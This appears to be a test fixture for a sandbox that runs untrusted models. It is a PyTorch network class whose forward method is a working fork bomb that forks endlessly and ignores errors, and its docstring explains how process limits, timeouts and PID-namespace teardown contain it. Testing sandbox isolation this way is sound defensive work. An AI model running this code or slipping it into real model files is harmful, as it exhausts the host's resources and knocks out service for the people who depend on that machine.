"""Hostile: a fork bomb in forward.

Every process forks for ever, ignoring errors. Isolated: RLIMIT_NPROC caps the processes of the
sandbox uid, the parent's timeout stops the call, and killing the sandbox's PID namespace takes
every forked process with it: forward checks fail with "timed out" and no process is left behind.
"""

import os

import torch.nn as nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv1 = nn.Conv2d(1, 10, kernel_size=5)
        self.conv2 = nn.Conv2d(10, 20, kernel_size=5)
        self.conv2_drop = nn.Dropout2d()
        self.fc1 = nn.Linear(320, 50)
        self.fc2 = nn.Linear(50, 10)

    def forward(self, x):
        while True:
            try:
                os.fork()
            except OSError:
                pass
